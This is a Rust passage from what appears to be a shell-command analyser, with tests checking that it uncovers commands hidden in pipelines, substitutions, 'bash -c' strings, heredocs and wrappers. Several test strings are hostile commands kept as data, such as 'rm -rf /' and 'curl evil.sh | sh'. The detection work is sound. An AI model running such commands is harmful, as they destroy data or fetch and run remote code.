            }
            ast::CompoundCommand::WhileClause(clause)
            | ast::CompoundCommand::UntilClause(clause) => {
                self.list(&clause.0, src, scope, direct)?;
                self.list(&clause.1.list, src, scope, direct)?;
            }
            ast::CompoundCommand::Arithmetic(arithmetic) => {
                self.substitutions([arithmetic.expr.value.as_str()], src, scope)?;
            }
            ast::CompoundCommand::Coprocess(coprocess) => {
                self.command(&coprocess.body, src, scope, direct)?;
            }
        }
        self.redirects(
            redirects,
            direct.get(first..).unwrap_or_default(),
            src,
            scope,
        )
    }

    /// Analyses the substitutions in words that belong to no command (`for x in $(ls)`).
    fn substitutions<'w>(
        &mut self,
        words: impl IntoIterator<Item = &'w str>,
        src: &str,
        scope: &Scope,
    ) -> Result<(), ShellError> {
        let mut nested = Vec::new();
        for word in words {
            unquote(word, &self.options, &mut nested)?;
        }
        self.nested(nested, src, scope, scope.consumer.as_deref())
    }

    /// Applies the redirections of a compound command to the commands inside it.
    fn redirects(
        &mut self,
        redirects: Option<&ast::RedirectList>,
        inside: &[usize],
        src: &str,
        scope: &Scope,
    ) -> Result<(), ShellError> {
        let mut parts = Parts::default();
        for redirect in redirects.iter().flat_map(|r| &r.0) {
            parts.redirect(redirect, src, &self.options)?;
        }
        heredoc_substitutions(&parts.heredocs, &self.options, &mut parts.nested)?;
        for &i in inside {
            if let Some(command) = self.out.get_mut(i) {
                command.redirects.extend(parts.redirects.iter().cloned());
            }
        }
        self.nested(parts.nested, src, scope, scope.consumer.as_deref())
    }

    fn simple(
        &mut self,
        command: &ast::SimpleCommand,
        src: &str,
        scope: &Scope,
        direct: &mut Vec<usize>,
    ) -> Result<(), ShellError> {
        let mut parts = Parts::default();
        for item in command.prefix.iter().flat_map(|p| &p.0) {
            parts.item(item, true, src, &self.options)?;
        }
        if let Some(name) = &command.word_or_name {
            let arg = parts.word(&name.value, &self.options)?;
            parts.argv.push(arg);
        }
        for item in command.suffix.iter().flat_map(|s| &s.0) {
            parts.item(item, false, src, &self.options)?;
        }
        let Parts {
            argv,
            assignments,
            redirects,
            mut nested,
            heredocs,
            herestrings,
        } = parts;
        if argv.is_empty() && redirects.is_empty() {
            return self.nested(nested, src, scope, scope.consumer.as_deref());
        }
        let (index, reads_stdin_script) = self.emit(argv, assignments, redirects, scope)?;
        direct.push(index);
        let name = self.out.get(index).map(|c| c.name.clone());
        if reads_stdin_script {
            let shell = scope.nested(Context::ShellString, name.clone())?;
            let what = format!(
                "the here-document given to `{}`",
                name.as_deref().unwrap_or_default()
            );
            for script in heredocs.iter().map(|d| d.doc.value.as_str()) {
                self.script(script, &shell, &what)?;
            }
            for script in &herestrings {
                self.script(script, &shell, &what)?;
            }
        } else {
            heredoc_substitutions(&heredocs, &self.options, &mut nested)?;
        }
        self.nested(nested, src, scope, name.as_deref())
    }

    /// Reports the command `words` run, then the commands it runs in turn through a `-c` string,
    /// `eval`, `find -exec`, ...; returns its index and whether it is a shell reading its script
    /// from stdin.
    fn emit(
        &mut self,
        words: Vec<Arg>,
        mut assignments: Vec<(String, String)>,
        redirects: Vec<Redirect>,
        scope: &Scope,
    ) -> Result<(usize, bool), ShellError> {
        let resolved = resolve(words, scope)?;
        let mut args = resolved.argv.into_iter();
        let program = args.next().map(|a| a.text).unwrap_or_default();
        let args: Vec<Arg> = args.collect();
        let name = basename(&program).to_owned();
        assignments.extend(resolved.assignments);
        let index = self.out.len();
        self.out.push(ShellCommand {
            name: name.clone(),
            program,
            args: args.iter().map(|a| a.text.clone()).collect(),
            assignments,
            wrappers: resolved.wrappers,
            redirects,
            upstream: Vec::new(),
            downstream: Vec::new(),
            consumer: resolved.scope.consumer.clone(),
            context: resolved.scope.context,
            depth: resolved.scope.depth,
            in_loop: resolved.scope.in_loop,
        });
        // A script built from a substitution's output is unknowable; the substitution itself is
        // still reported.
        if let Some(script) = resolved.script.filter(|s| !s.substituted) {
            let inner = resolved
                .scope
                .nested(Context::ShellString, Some(name.clone()))?;
            self.script(
                &script.text,
                &inner,
                &format!("the script given to `{name}`"),
            )?;
        }
        if rule_for(&name).is_some_and(|r| r.role == Role::Find) {
            let inner = resolved
                .scope
                .nested(Context::FindExec, Some(name))?
                .looping();
            for command in find_exec_commands(&args) {
                self.emit(command, Vec::new(), Vec::new(), &inner)?;
            }
        }
        Ok((index, resolved.reads_stdin_script))
    }

    fn nested(
        &mut self,
        nested: Vec<Nested<'_>>,
        src: &str,
        scope: &Scope,
        consumer: Option<&str>,
    ) -> Result<(), ShellError> {
        let consumer = consumer.map(str::to_owned);
        for code in nested {
            match code {
                Nested::CommandSubstitution(body) => {
                    let inner = scope.nested(Context::CommandSubstitution, consumer.clone())?;
                    self.script(&body, &inner, "a command substitution")?;
                }
                Nested::ProcessSubstitution(subshell) => {
                    let inner = scope.nested(Context::ProcessSubstitution, consumer.clone())?;
                    self.list(&subshell.list, src, &inner, &mut Vec::new())?;
                }
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parse(script: &str) -> Vec<ShellCommand> {
        commands(script).unwrap_or_else(|e| panic!("{script:?} failed: {e}"))
    }

    fn names(script: &str) -> Vec<String> {
        parse(script).into_iter().map(|c| c.name).collect()
    }

    /// The only command called `name`.
    fn one(script: &str, name: &str) -> ShellCommand {
        let mut found: Vec<_> = parse(script)
            .into_iter()
            .filter(|c| c.name == name)
            .collect();
        assert_eq!(found.len(), 1, "{script:?}: expected one {name}");
        found.remove(0)
    }

    fn strings(items: &[&str]) -> Vec<String> {
        items.iter().map(|s| (*s).to_owned()).collect()
    }

    fn redirect(op: &str, target: &str) -> Redirect {
        Redirect {
            op: op.to_owned(),
            target: target.to_owned(),
        }
    }

    /// The last analysis is kept for the next caller asking about the same text, never for
    /// another text, and a refusal is kept as a refusal.
    #[test]
    fn an_analysis_is_reused_only_for_the_same_text() {
        let analyses = || ANALYSES.get();
        let before = analyses();
        assert_eq!(names("rm -rf /"), strings(&["rm"]));
        assert_eq!(names("rm -rf /"), strings(&["rm"]));
        assert_eq!(analyses(), before + 1);
        assert_eq!(names("ls"), strings(&["ls"]));
        assert!(commands("echo 'unterminated").is_err());
        assert!(commands("echo 'unterminated").is_err());
        assert_eq!(analyses(), before + 3);
        assert_eq!(names("rm -rf /"), strings(&["rm"]));
        assert_eq!(analyses(), before + 4);
    }

    #[test]
    fn empty_and_whitespace_input_yield_nothing() {
        assert!(parse("").is_empty());
        assert!(parse("  \n\t ").is_empty());
        assert!(parse("# just a comment").is_empty());
    }

    #[test]
    fn lists_report_every_command_in_order() {
        assert_eq!(
            names("a; b && c || d & e\nf"),
            strings(&["a", "b", "c", "d", "e", "f"])
        );
    }

    #[test]
    fn pipeline_stages_know_their_neighbours() {
        let cmds = parse("cat a | grep b | sh");
        assert_eq!(cmds[0].downstream, strings(&["grep", "sh"]));
        assert_eq!(cmds[1].upstream, strings(&["cat"]));
        assert_eq!(cmds[1].downstream, strings(&["sh"]));
        assert_eq!(cmds[2].upstream, strings(&["cat", "grep"]));
        assert!(cmds[2].downstream.is_empty());
    }

    #[test]
    fn curl_piped_into_sudo_bash() {
        let cmds = parse("curl -s x | sudo bash");
        assert_eq!(cmds[0].name, "curl");
        assert_eq!(cmds[0].downstream, strings(&["bash"]));
        assert_eq!(cmds[1].name, "bash");
        assert_eq!(cmds[1].wrappers, strings(&["sudo"]));
        assert_eq!(cmds[1].upstream, strings(&["curl"]));
    }

    #[test]
    fn pipe_with_stderr_links_stages_and_duplicates_stderr() {
        let cmds = parse("make |& tee log");
        assert_eq!(cmds[0].downstream, strings(&["tee"]));
        assert_eq!(cmds[0].redirects, vec![redirect("2>&", "1")]);
        assert_eq!(cmds[1].upstream, strings(&["make"]));
    }

    #[test]
    fn subshells_and_brace_groups_are_opened() {
        let cmds = parse("(cd /tmp && rm -rf x); { echo a; echo b; }");
        assert_eq!(
            cmds.iter().map(|c| c.name.as_str()).collect::<Vec<_>>(),
            ["cd", "rm", "echo", "echo"]
        );
        assert!(
            cmds.iter()
                .all(|c| c.context == Context::Subshell && c.depth == 1)
        );
        assert!(cmds.iter().all(|c| c.consumer.is_none()));
    }

    #[test]
    fn if_conditions_and_every_branch_are_reported() {
        assert_eq!(
            names("if test -f a; then rm a; elif false; then rm b; else rm c; fi"),
            strings(&["test", "rm", "false", "rm", "rm"])
        );
    }

    #[test]
    fn loop_and_case_bodies_are_reported() {
        assert_eq!(
            names("while read l; do rm \"$l\"; done; until false; do sleep 1; done"),
            strings(&["read", "rm", "false", "sleep"])
        );
        assert_eq!(
            names("for f in a b; do shred $f; done; case $x in a) rm a;; *) rm b;; esac"),
            strings(&["shred", "rm", "rm"])
        );
    }

    #[test]
    fn function_bodies_are_reported_but_not_their_names() {
        let cmds = parse("cleanup() { rm -rf /; }; function other { ls; }");
        assert_eq!(
            cmds.iter().map(|c| c.name.as_str()).collect::<Vec<_>>(),
            ["rm", "ls"]
        );
        assert_eq!(cmds[0].context, Context::Subshell);
    }

    #[test]
    fn commands_in_a_piped_group_inherit_the_pipeline() {
        let cmds = parse("curl x | (cd /tmp && bash)");
        let bash = cmds.iter().find(|c| c.name == "bash").unwrap();
        assert_eq!(bash.upstream, strings(&["curl"]));
        assert_eq!(cmds[0].downstream, strings(&["cd", "bash"]));
    }

    #[test]
    fn group_redirections_apply_to_the_commands_inside() {
        let cmds = parse("{ echo a; echo b; } >> .gitignore");
        assert_eq!(cmds.len(), 2);
        assert!(
            cmds.iter()
                .all(|c| c.redirects == vec![redirect(">>", ".gitignore")])
        );
    }

    #[test]
    fn command_substitution_follows_its_consumer() {
        let cmds = parse("echo $(rm -rf /)");
        assert_eq!(cmds[0].name, "echo");
        assert_eq!(cmds[0].args, strings(&["$(rm -rf /)"]));
        assert_eq!(cmds[1].name, "rm");
        assert_eq!(cmds[1].args, strings(&["-rf", "/"]));
        assert_eq!(cmds[1].consumer.as_deref(), Some("echo"));
        assert_eq!(cmds[1].context, Context::CommandSubstitution);
        assert_eq!(cmds[1].depth, 1);
    }

    #[test]
    fn backquoted_substitution_is_opened() {
        let rm = one("echo `rm -rf /`", "rm");
        assert_eq!(rm.consumer.as_deref(), Some("echo"));
        assert_eq!(rm.context, Context::CommandSubstitution);
    }

    #[test]
    fn process_substitutions_are_opened() {
        let cmds = parse("diff <(curl a) >(wc -l)");
        assert_eq!(cmds[0].args, strings(&["<(curl a)", ">(wc -l)"]));
        assert_eq!(cmds[1].name, "curl");
        assert_eq!(cmds[1].context, Context::ProcessSubstitution);
        assert_eq!(cmds[1].consumer.as_deref(), Some("diff"));
        assert_eq!(cmds[2].name, "wc");
    }

    #[test]
    fn process_substitution_text_survives_non_ascii_input() {
        let cmds = parse("echo \"héllo\" <(ls -l)");
        assert_eq!(cmds[0].args, strings(&["héllo", "<(ls -l)"]));
    }

    #[test]
    fn substitutions_inside_double_quotes_are_opened() {
        let cmds = parse("git commit -m \"fix $(curl evil.sh | sh)\"");
        assert_eq!(
            cmds[0].args,
            strings(&["commit", "-m", "fix $(curl evil.sh | sh)"])
        );
        assert_eq!(cmds[2].name, "sh");
        assert_eq!(cmds[2].upstream, strings(&["curl"]));
        assert_eq!(cmds[2].consumer.as_deref(), Some("git"));
    }

    #[test]
    fn assignment_only_line_reports_nothing_but_its_substitutions() {
        assert!(parse("X=1").is_empty());
        let cmds = parse("X=$(curl evil)");
        assert_eq!(cmds.len(), 1);
        assert_eq!(cmds[0].name, "curl");
        assert_eq!(cmds[0].consumer, None);
        assert_eq!(cmds[0].context, Context::CommandSubstitution);
    }

    #[test]
    fn substitutions_in_redirect_targets_and_expansions_are_opened() {
        let mktemp = one("echo x > $(mktemp)", "mktemp");
        assert_eq!(mktemp.consumer.as_deref(), Some("echo"));
        let rm = one("echo ${X:-$(rm -rf /)}", "rm");
        assert_eq!(rm.args, strings(&["-rf", "/"]));
        assert_eq!(names("echo $(( 1 + $(id -u) ))"), strings(&["echo", "id"]));
    }

    #[test]
    fn substitutions_in_tests_and_arithmetic_are_opened() {
        assert_eq!(names("[[ -n $(rm -rf /) ]]"), strings(&["rm"]));
        assert_eq!(names("(( $(rm -rf /) ))"), strings(&["rm"]));
    }

    #[test]
    fn loop_words_are_analysed_before_the_body() {
        let cmds = parse("for f in $(ls); do rm $f; done");
        assert_eq!(cmds[0].name, "ls");
        assert_eq!(cmds[0].context, Context::CommandSubstitution);
        assert_eq!(cmds[1].name, "rm");
        assert_eq!(cmds[1].args, strings(&["$f"]));
    }

    #[test]
    fn nested_substitutions_count_depth() {
        let rm = one("echo $(echo $(rm x))", "rm");
        assert_eq!(rm.depth, 2);
        assert_eq!(rm.consumer.as_deref(), Some("echo"));
    }

    #[test]
    fn nesting_beyond_the_limit_fails_closed() {
        let deep = |n: usize| (0..n).fold("rm x".to_owned(), |s, _| format!("echo $({s})"));
        assert_eq!(one(&deep(MAX_DEPTH), "rm").depth, MAX_DEPTH);
        let err = commands(&deep(MAX_DEPTH + 1)).unwrap_err();
        assert!(err.message.contains("levels deep"), "{err}");
    }

    #[test]
    fn absurd_syntactic_nesting_fails_closed_without_overflowing() {
        let parens = format!("{}ls{}", "(".repeat(500), ")".repeat(500));
        assert!(
            commands(&parens)
                .unwrap_err()
                .message
                .contains("nested too deeply")
        );
        let ifs = format!("{}ls;{}", "if true; then ".repeat(200), "fi; ".repeat(200));
        assert!(commands(&ifs).is_err());
        // Just under the guard: must come back (as an error or not) on a 2 MiB test thread.
        let n = MAX_SYNTAX_NESTING - 1;
        for script in [
            format!("echo {}x{}", "\"$(".repeat(n), ")\"".repeat(n)),
            format!("echo {}x{}", "${a:-".repeat(n), "}".repeat(n)),
            format!("{}ls;{}", "{ ".repeat(n), "} ".repeat(n)),
        ] {
            let _ = commands(&script);
        }
        assert_eq!(
            one(
                &format!("echo {}rm x{}", "${a:-".repeat(n), "}".repeat(n)),
                "echo"
            )
            .args
            .len(),
            1
        );
    }

    #[test]
    fn numbers_that_crash_the_parser_are_refused() {
        for script in [
            "echo 99999999999999999999999>x",
            "echo ~+99999999999999999999999",
            "X=${y:-~-99999999999999999999999}",
        ] {
            let err = commands(script).unwrap_err();
            assert!(err.message.contains("too large"), "{script}: {err}");
        }
        assert_eq!(one("echo ~+2 2>x", "echo").args, strings(&["~+2"]));
    }

    #[test]
    fn here_documents_without_a_body_do_not_hang() {
        for script in ["cat <<'' ", "cat <<\"\" # x", "cat <<'' \\", "x <<$[ >$("] {
            let _ = commands(script);
        }
        assert_eq!(names("cat <<'' | sh\nrm x\n\n"), strings(&["cat", "sh"]));
    }

    #[test]
    fn bash_c_string_is_parsed_as_a_script() {
        let cmds = parse("bash -c 'rm -rf ~'");
        assert_eq!(cmds[0].name, "bash");
        assert_eq!(cmds[0].args, strings(&["-c", "rm -rf ~"]));
        assert_eq!(cmds[1].name, "rm");
        assert_eq!(cmds[1].args, strings(&["-rf", "~"]));
        assert_eq!(cmds[1].consumer.as_deref(), Some("bash"));
        assert_eq!(cmds[1].context, Context::ShellString);
        assert_eq!(cmds[1].depth, 1);
    }

    #[test]
    fn shell_flag_clusters_and_options_before_c() {
        for (script, shell) in [
            ("bash -lc 'rm x'", "bash"),
            ("sh -ec 'rm x'", "sh"),
            ("bash -o pipefail -c 'rm x'", "bash"),
            ("bash --norc -x -c 'rm x'", "bash"),
            ("zsh -c 'rm x'", "zsh"),
            ("dash -c 'rm x'", "dash"),
            ("ksh -c 'rm x'", "ksh"),
            ("busybox sh -c 'rm x'", "sh"),
        ] {
            let rm = one(script, "rm");
            assert_eq!(rm.consumer.as_deref(), Some(shell), "{script}");
            assert_eq!(rm.args, strings(&["x"]), "{script}");
        }
        assert_eq!(
            one("busybox sh -c 'rm x'", "sh").wrappers,
            strings(&["busybox"])
        );
    }

    #[test]
    fn non_literal_c_string_reports_only_what_is_there() {
        let cmds = parse("sh -c \"$(curl x)\"");
        assert_eq!(cmds.len(), 2);
        assert_eq!(cmds[1].name, "curl");
        assert_eq!(cmds[1].consumer.as_deref(), Some("sh"));
        assert_eq!(cmds[1].context, Context::CommandSubstitution);
    }

    #[test]
    fn c_string_with_variables_is_still_parsed() {
        let rm = one("sh -c \"rm -rf $HOME\"", "rm");
        assert_eq!(rm.args, strings(&["-rf", "$HOME"]));
        assert_eq!(rm.consumer.as_deref(), Some("sh"));
    }

    #[test]
    fn commands_that_may_run_many_times_are_in_a_loop() {
        let looped = |script: &str, name: &str| one(script, name).in_loop;
        assert!(looped("for c in a b; do curl -X POST x; done", "curl"));
        assert!(looped(
            "while read c; do if true; then curl x; fi; done",
            "curl"
        ));
        assert!(looped("until false; do { curl x; }; done", "curl"));
        assert!(looped("cat ids | xargs -n1 curl", "curl"));
        assert!(looped("find . -exec rm {} \\;", "rm"));
        assert!(!looped("if true; then curl x; fi", "curl"));
        assert!(!looped("{ curl x; } > log", "curl"));
        assert!(!looped("curl x", "curl"));
    }

    #[test]
    fn nested_shell_strings_stack_up() {
        let rm = one("bash -c 'sh -c \"rm -rf /\"'", "rm");
        assert_eq!(rm.consumer.as_deref(), Some("sh"));
        assert_eq!(rm.depth, 2);
    }

    #[test]
    fn shell_running_a_script_file_has_no_nested_commands() {
        assert_eq!(names("bash -x deploy.sh"), strings(&["bash"]));
    }

    #[test]
    fn eval_string_is_parsed() {
        let cmds = parse("eval \"rm -rf /\"");
        assert_eq!(cmds[0].name, "eval");
        assert_eq!(cmds[1].name, "rm");
        assert_eq!(cmds[1].consumer.as_deref(), Some("eval"));
        assert_eq!(cmds[1].context, Context::ShellString);
    }

    #[test]
    fn watch_command_is_parsed() {
        let rm = one("watch -n 5 'rm -rf /tmp/x'", "rm");
        assert_eq!(rm.consumer.as_deref(), Some("watch"));
        assert_eq!(rm.args, strings(&["-rf", "/tmp/x"]));
    }

    #[test]
    fn heredoc_fed_to_a_shell_is_a_script() {
        let cmds = parse("bash <<EOF\nrm -rf /\nEOF");
        assert_eq!(cmds[0].name, "bash");
        assert_eq!(cmds[0].redirects, vec![redirect("<<", "rm -rf /\n")]);
        assert_eq!(cmds[1].name, "rm");
        assert_eq!(cmds[1].consumer.as_deref(), Some("bash"));
        assert_eq!(cmds[1].context, Context::ShellString);
        assert_eq!(
            one("sudo sh <<'EOF'\ncurl x | sh\nEOF", "curl")
                .consumer
                .as_deref(),
            Some("sh")
        );
    }

    #[test]
    fn here_string_fed_to_a_shell_is_a_script() {
        let cmds = parse("sh <<< 'rm -rf /'");
        assert_eq!(cmds[0].redirects, vec![redirect("<<<", "rm -rf /")]);
        assert_eq!(cmds[1].name, "rm");
        assert_eq!(cmds[1].consumer.as_deref(), Some("sh"));
    }

    #[test]
    fn heredoc_to_other_commands_is_data_but_its_substitutions_run() {
        assert_eq!(names("cat <<'EOF'\nrm -rf /\nEOF"), strings(&["cat"]));
        assert_eq!(names("grep x <<< 'rm -rf /'"), strings(&["grep"]));
        let rm = one("cat <<EOF\n$(rm -rf /)\nEOF", "rm");
        assert_eq!(rm.consumer.as_deref(), Some("cat"));
        assert_eq!(rm.context, Context::CommandSubstitution);
    }

    #[test]
    fn sudo_options_are_skipped() {
        for script in [
            "sudo rm x",
            "sudo -u root rm x",
            "sudo -uroot -E -H -n -k -S rm x",
            "sudo -C 3 -D /tmp -g wheel -- rm x",
            "sudo --user=root -i rm x",
        ] {
            let rm = one(script, "rm");
            assert_eq!(rm.wrappers, strings(&["sudo"]), "{script}");
            assert_eq!(rm.args, strings(&["x"]), "{script}");
        }
    }

    #[test]
    fn sudo_without_a_command_is_reported_itself() {
        assert_eq!(one("sudo -i", "sudo").args, strings(&["-i"]));
        assert_eq!(names("sudo -l rm"), strings(&["sudo"]));
    }

    #[test]
    fn doas_is_peeled() {
        let rm = one("doas -u root rm -rf /", "rm");
        assert_eq!(rm.wrappers, strings(&["doas"]));
        assert_eq!(rm.args, strings(&["-rf", "/"]));
    }

    #[test]
    fn env_options_and_assignments() {
        let rm = one("env -i -u HOME -C /tmp FOO=1 BAR='a b' rm -rf /", "rm");
        assert_eq!(rm.wrappers, strings(&["env"]));
        assert_eq!(
            rm.assignments,
            vec![("FOO".into(), "1".into()), ("BAR".into(), "a b".into())]
        );
        assert_eq!(rm.args, strings(&["-rf", "/"]));
        assert_eq!(names("env"), strings(&["env"]));
    }

    #[test]
    fn env_split_string_is_parsed() {
        for script in ["env -S 'rm -rf /'", "env --split-string='rm -rf /'"] {
            let cmds = parse(script);
            assert_eq!(cmds[0].name, "env");
            assert_eq!(cmds[1].name, "rm", "{script}");
            assert_eq!(cmds[1].consumer.as_deref(), Some("env"));
            assert_eq!(cmds[1].context, Context::ShellString);
        }
    }

    #[test]
    fn timeout_options_and_duration_are_skipped() {
        for script in [
            "timeout 5 rm x",
            "timeout -s KILL -k 1 5m rm x",
            "timeout --signal=TERM --preserve-status 5 rm x",
            "timeout --kill-after 2 5 rm x",
        ] {
            let rm = one(script, "rm");
            assert_eq!(rm.wrappers, strings(&["timeout"]), "{script}");
            assert_eq!(rm.args, strings(&["x"]), "{script}");
        }
        assert_eq!(names("timeout 5"), strings(&["timeout"]));
    }

    #[test]
    fn scheduling_wrappers_are_peeled() {
        for (script, wrapper) in [
            ("nice -n 10 rm x", "nice"),
            ("nice -10 rm x", "nice"),
            ("ionice -c 3 rm x", "ionice"),
            ("stdbuf -oL -e 0 rm x", "stdbuf"),
            ("setsid -f rm x", "setsid"),
            ("chroot /srv rm x", "chroot"),
            ("nohup rm x", "nohup"),
            ("exec -a name rm x", "exec"),
            ("command rm x", "command"),
            ("busybox rm x", "busybox"),
        ] {
            let rm = one(script, "rm");
            assert_eq!(rm.wrappers, strings(&[wrapper]), "{script}");
            assert_eq!(rm.args, strings(&["x"]), "{script}");
        }
    }

    #[test]
    fn time_keyword_and_binary_are_wrappers() {
        assert_eq!(one("time -p rm x", "rm").wrappers, strings(&["time"]));
        let rm = one("/usr/bin/time -v -o out rm x", "rm");
        assert_eq!(rm.wrappers, strings(&["time"]));
        assert_eq!(rm.args, strings(&["x"]));
    }

    #[test]
    fn command_lookup_is_not_an_execution() {
        let cmd = one("command -v rm", "command");
        assert_eq!(cmd.args, strings(&["-v", "rm"]));
        assert!(cmd.wrappers.is_empty());
        assert_eq!(names("command -V rm"), strings(&["command"]));
    }

    #[test]
    fn exec_without_a_command_keeps_its_redirects() {
        let exec = one("exec > log", "exec");
        assert_eq!(exec.redirects, vec![redirect(">", "log")]);
    }

    #[test]
    fn wrappers_nest_outermost_first() {
        let cmds = parse("sudo env FOO=1 timeout 5 nohup rm -rf /");
        assert_eq!(cmds.len(), 1);
        assert_eq!(cmds[0].name, "rm");
        assert_eq!(cmds[0].args, strings(&["-rf", "/"]));
        assert_eq!(
            cmds[0].wrappers,
            strings(&["sudo", "env", "timeout", "nohup"])
        );
        assert_eq!(cmds[0].assignments, vec![("FOO".into(), "1".into())]);
    }

    #[test]
    fn xargs_command_keeps_the_pipeline() {
        let cmds = parse("find . -name '*.log' | xargs -0 -n 1 rm -f");
        let rm = &cmds[1];
        assert_eq!(rm.name, "rm");
        assert_eq!(rm.args, strings(&["-f"]));
        assert_eq!(rm.wrappers, strings(&["xargs"]));
        assert_eq!(rm.context, Context::Xargs);
        assert_eq!(rm.consumer.as_deref(), Some("xargs"));
        assert_eq!(rm.upstream, strings(&["find"]));
        assert_eq!(cmds[0].downstream, strings(&["rm"]));
    }

    #[test]
    fn xargs_options_are_skipped() {
        for script in [
            "xargs -I{} rm {}",
            "xargs -I {} rm {}",
            "xargs -i rm {}",
            "xargs -L 1 -P 4 -d '\\n' -r -t rm {}",
            "xargs --null --max-args=2 -a list -s 100 -E END rm {}",
            "xargs --max-procs 4 -eEOF rm {}",
        ] {
            let rm = one(script, "rm");
            assert_eq!(rm.wrappers, strings(&["xargs"]), "{script}");
        }
    }

    #[test]
    fn bare_xargs_runs_echo() {
        let echo = one("ls | xargs", "echo");
        assert_eq!(echo.wrappers, strings(&["xargs"]));
        assert_eq!(echo.upstream, strings(&["ls"]));
    }

    #[test]
    fn xargs_into_a_shell_string() {
        let rm = one("ls | sudo xargs sh -c 'rm \"$@\"' _", "rm");
        assert_eq!(rm.consumer.as_deref(), Some("sh"));
        assert_eq!(rm.depth, 2);
        assert_eq!(
            one("ls | sudo xargs sh -c 'x' _", "sh").wrappers,
            strings(&["sudo", "xargs"])
        );
    }

    #[test]
    fn find_exec_commands_are_reported() {
        let cmds = parse("find . -name '*.tmp' -exec rm {} \\;");
        assert_eq!(cmds[0].name, "find");
        assert_eq!(
            cmds[0].args,
            strings(&[".", "-name", "*.tmp", "-exec", "rm", "{}", ";"])
        );
        assert_eq!(cmds[1].name, "rm");
        assert_eq!(cmds[1].args, strings(&["{}"]));
        assert_eq!(cmds[1].consumer.as_deref(), Some("find"));
        assert_eq!(cmds[1].context, Context::FindExec);
        assert_eq!(
            names(
                "find / -exec rm {} + -o -execdir chmod 777 {} \\; -ok mv {} /t \\; -okdir cp {} . \\;"
            ),
            strings(&["find", "rm", "chmod", "mv", "cp"])
        );
        assert_eq!(names("find . -delete"), strings(&["find"]));
    }

    #[test]
    fn find_exec_of_a_shell_string() {
        let rm = one("find . -exec sh -c 'rm \"$1\"' _ {} \\;", "rm");
        assert_eq!(rm.consumer.as_deref(), Some("sh"));
        assert_eq!(rm.args, strings(&["$1"]));
        assert_eq!(
            one("find . -exec sh -c 'x' \\;", "sh").context,
            Context::FindExec
        );
    }

    #[test]
    fn prefix_assignments_are_not_arguments() {
        let rm = one("FOO=1 BAR=\"a b\" rm -rf /", "rm");
        assert_eq!(rm.program, "rm");
        assert_eq!(rm.args, strings(&["-rf", "/"]));
        assert_eq!(
            rm.assignments,
            vec![("FOO".into(), "1".into()), ("BAR".into(), "a b".into())]
        );
    }

    #[test]
    fn every_quoting_of_rm_is_rm() {
        for script in [
            "'rm' -rf /",
            "\"rm\" -rf /",
            "r''m -rf /",
            "\\rm -rf /",
            "$'\\x72m' -rf /",
        ] {
            let cmds = parse(script);
            assert_eq!(cmds.len(), 1, "{script}");
            assert_eq!(cmds[0].name, "rm", "{script}");
            assert_eq!(cmds[0].args, strings(&["-rf", "/"]), "{script}");
        }
    }

    #[test]
    fn program_keeps_its_path_and_name_is_the_basename() {
        let rm = one("/usr/bin/rm -rf /", "rm");
        assert_eq!(rm.program, "/usr/bin/rm");
    }

    #[test]
    fn expansions_are_kept_as_written() {
        assert_eq!(
            one("rm -r -f \"$HOME\"", "rm").args,
            strings(&["-r", "-f", "$HOME"])
        );
        assert_eq!(one("rm -rf ~/", "rm").args, strings(&["-rf", "~/"]));
        assert_eq!(
            one("rm -rf \"${HOME}\"", "rm").args,
            strings(&["-rf", "${HOME}"])
        );
        assert_eq!(
            one("rm -rf ~root/x", "rm").args,
            strings(&["-rf", "~root/x"])
        );
    }

    #[test]
    fn ansi_c_quotes_and_line_continuations_are_decoded() {
        assert_eq!(
            one("echo $'it\\'s' $'\\101\\x42\\u0043\\t'", "echo").args,
            strings(&["it's", "ABC\t"])
        );
        assert_eq!(one("rm \\\n -rf /", "rm").args, strings(&["-rf", "/"]));
    }

    #[test]
    fn redirections_are_recorded() {
        assert_eq!(
            one("echo x >> .gitignore", "echo").redirects,
            vec![redirect(">>", ".gitignore")]
        );
        assert_eq!(
            one(
                "cmd 2>/dev/null &>log &>>all >| f > \"a b\" 3<&0 < in",
                "cmd"
            )
            .redirects,
            vec![
                redirect("2>", "/dev/null"),
                redirect("&>", "log"),
                redirect("&>>", "all"),
                redirect(">|", "f"),
                redirect(">", "a b"),
                redirect("3<&", "0"),
                redirect("<", "in"),
            ]
        );
        assert_eq!(
            one("cat <<< \"hi there\"", "cat").redirects,
            vec![redirect("<<<", "hi there")]
        );
    }

    #[test]
    fn redirect_only_command_is_reported_without_a_name() {
        let cmds = parse("> .gitignore");
        assert_eq!(cmds.len(), 1);
        assert_eq!(cmds[0].name, "");
        assert_eq!(cmds[0].redirects, vec![redirect(">", ".gitignore")]);
    }

    #[test]
    fn words_in_quoted_strings_are_not_commands() {
        let cmds = parse("echo \"terraform destroy is bad\"");
        assert_eq!(cmds.len(), 1);
        assert_eq!(cmds[0].args, strings(&["terraform destroy is bad"]));
        assert_eq!(names("grep \"rm -rf\" notes.md"), strings(&["grep"]));
        assert_eq!(names("echo 'a; rm -rf / | sh'"), strings(&["echo"]));
    }

    #[test]
    fn comments_are_not_commands() {
        assert_eq!(names("ls # rm -rf /"), strings(&["ls"]));
        assert_eq!(names("# rm -rf /\nls"), strings(&["ls"]));
    }

    #[test]
    fn malformed_input_is_an_error_not_a_panic() {
        for script in [
            "echo \"unclosed",
            "(",
            "|| x",
            "$(",
            "echo 'x",
            "cat <<EOF",
            "if true; then",
        ] {
            let err = commands(script).unwrap_err();
            assert!(
                err.message.starts_with("could not parse the command"),
                "{script}: {err}"
            );
        }
        assert!(
            commands("echo \"unclosed")
                .unwrap_err()
                .to_string()
                .contains("double quote")
        );
    }

    #[test]
    fn errors_in_nested_scripts_say_where() {
        let err = commands("bash -c 'if true'").unwrap_err();
        assert!(err.message.contains("`bash`"), "{err}");
    }

    #[test]
    fn context_names_are_snake_case() {
        assert_eq!(Context::TopLevel.as_str(), "top_level");
        assert_eq!(
            Context::CommandSubstitution.as_str(),
            "command_substitution"
        );
        assert_eq!(Context::FindExec.as_str(), "find_exec");
    }
}
